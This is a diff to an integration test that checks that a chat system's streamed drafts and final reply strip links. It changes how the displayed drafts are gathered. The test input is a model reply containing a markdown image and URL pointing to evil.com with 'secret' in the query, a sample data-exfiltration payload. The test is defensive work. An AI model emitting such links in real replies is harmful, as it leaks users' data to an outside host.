@@ -10,7 +10,7 @@ from channel_kit import EventKind
 from coachline.conversation.sentences import sentences_in
 from coachline.foundation.ids import TenantId
 from coachline.messaging import DraftReply, TurnTrace
-from integration.conversation.conftest import RATES, MakeStage, Stage, StreamingChannel
+from integration.conversation.conftest import RATES, MakeStage, Stage
 from lab.scripted_ollama import Fault
 
 pytestmark = pytest.mark.integration
@@ -249,8 +249,8 @@ async def test_a_draft_shows_no_link_that_the_reply_may_not_hold(
     stage.ollama.reply = "See ![x](https://evil.com/?q=secret) and https://evil.com/secret now"
     stage.ollama.delay_seconds = 0.005
     await stage.say(live, "hello")
-    turn = await stage.answer(live)
-    shown = StreamingChannel.shown.pop(str(turn.id))
+    await stage.answer(live)
+    shown = stage.platform.drafts
     assert len(shown) > 1
     assert not [draft for draft in shown if "://" in draft or "evil.com" in draft]
     assert (await stage.messages(live))[-1].text == "See x and evil[.]com now"
